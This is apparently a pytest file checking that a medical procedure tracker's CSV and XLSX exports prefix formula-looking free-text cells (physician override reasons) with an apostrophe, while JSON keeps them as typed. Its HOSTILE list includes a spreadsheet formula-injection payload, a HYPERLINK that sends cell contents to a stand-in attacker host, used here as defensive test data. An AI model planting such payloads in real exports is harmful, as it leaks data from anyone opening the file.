"""No CSV or XLSX cell the tracker writes runs as a formula in the reader's spreadsheet.

Free text typed into the tracker (here a physician's override reason, exported in an
identified file) may start with `= + - @`, a tab or a CR; in CSV and XLSX such a cell gets a
leading `'` (API_CONTRACT.md v1.1). JSON carries the value as typed; numbers stay numbers.
"""

import io
import json

import openpyxl
import pandas as pd
import pytest

from blocks.models import Patient
from reports.exports import _csv, spreadsheet_cell, spreadsheet_safe
from reports.labels import column_label
from reports.store.readings import store_for_patients
from tests.factories import EpisodeFactory, PatientFactory, ProcedureFactory, ScreeningFactory
from tests.reports.clinic import T0

pytestmark = pytest.mark.usefixtures("report_urls")

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "-2+3",
    "@SUM(1)",
    "+1+1",
    "\tx",
    "\rx",
]


@pytest.fixture
def hostile_clinic(physician_user):
    """One overridden block per hostile reason, all in the identified blocks export."""
    patient = PatientFactory(mrn="SAFE-001")
    episode = EpisodeFactory(patient=patient, created_by=physician_user)
    for reason in HOSTILE:
        procedure = ProcedureFactory(episode=episode, performed_by=physician_user, screening=None)
        ScreeningFactory(
            procedure=procedure,
            contraindications=["anticoagulant_not_held"],
            override_reason=reason,
            overridden_by=physician_user,
            overridden_at=T0,
        )
    store_for_patients(Patient.objects.values_list("pk", flat=True))


def _export(client, fmt: str) -> bytes:
    response = client.get(
        "/api/reports/blocks/", {"format": fmt, "identified": "true", "kind": "medial_branch_block"}
    )
    assert response.status_code == 200
    return response.content


def test_the_identified_csv_prefixes_every_formula_looking_cell(superuser_client, hostile_clinic):
    frame = pd.read_csv(
        io.BytesIO(_export(superuser_client, "csv")), dtype=str, keep_default_na=False
    )

    assert sorted(frame["override_reason"]) == sorted("'" + reason for reason in HOSTILE)
    assert set(frame["mrn"]) == {"SAFE-001"}  # what needs no prefix gets none


def test_a_carriage_return_cannot_start_a_new_csv_row_with_a_formula(physician_user):
    """`\r=HYPERLINK(...)` is prefixed, and its CR is quoted: no line starts with `=`."""
    frame = pd.DataFrame({"note": ["\r=HYPERLINK(1)", "ok"], "n": [1, 2]})

    text = _csv(frame).decode()

    assert text == 'note,n\r\n"\'\r=HYPERLINK(1)",1\r\nok,2\r\n'
    assert pd.read_csv(io.StringIO(text))["note"].tolist() == ["'\r=HYPERLINK(1)", "ok"]


def test_the_identified_xlsx_holds_them_as_prefixed_text_cells(superuser_client, hostile_clinic):
    book = openpyxl.load_workbook(io.BytesIO(_export(superuser_client, "xlsx")))
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    column = header.index(column_label("override_reason")) + 1
    cells = [sheet.cell(row=row, column=column) for row in range(2, sheet.max_row + 1)]

    # XML reads a CR as a line feed; either way the cell is text.
    expected = sorted("'" + reason.replace("\r", "\n") for reason in HOSTILE)
    assert sorted(cell.value for cell in cells) == expected
    assert {cell.data_type for cell in cells} == {"s"}
    every_cell = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in every_cell if cell.data_type == "f"]


def test_the_json_export_carries_the_reasons_as_typed(superuser_client, hostile_clinic):
    body = json.loads(_export(superuser_client, "json"))
    (rows,) = body["tables"].values()

    assert sorted(row["override_reason"] for row in rows) == sorted(HOSTILE)


def test_numbers_stay_numbers_and_only_strings_are_prefixed():
    frame = pd.DataFrame(
        {
            "relief_percent": [-20.0, 50.0],
            "count": [-3, 4],
            "note": ["-2+3", "fine"],
            "levels": pd.Categorical(["=L5", "L4"]),
            "maybe": ["@x", None],
        }
    )

    safe = spreadsheet_safe(frame)

    assert safe["relief_percent"].tolist() == [-20.0, 50.0]
    assert safe["count"].tolist() == [-3, 4]
    assert safe["note"].tolist() == ["'-2+3", "fine"]
    assert safe["levels"].tolist() == ["'=L5", "L4"]
    assert safe["maybe"].tolist()[0] == "'@x" and pd.isna(safe["maybe"].tolist()[1])
    assert frame["note"].tolist() == ["-2+3", "fine"]  # the report itself is unchanged
    csv = safe.to_csv(index=False)
    assert "\n-20.0,-3,'-2+3," in csv


@pytest.mark.parametrize(
    ("value", "safe"),
    [("=1+1", "'=1+1"), ("plain", "plain"), ("", ""), (-5, -5), (None, None), ("a=b", "a=b")],
)
def test_spreadsheet_cell(value, safe):
    assert spreadsheet_cell(value) == safe
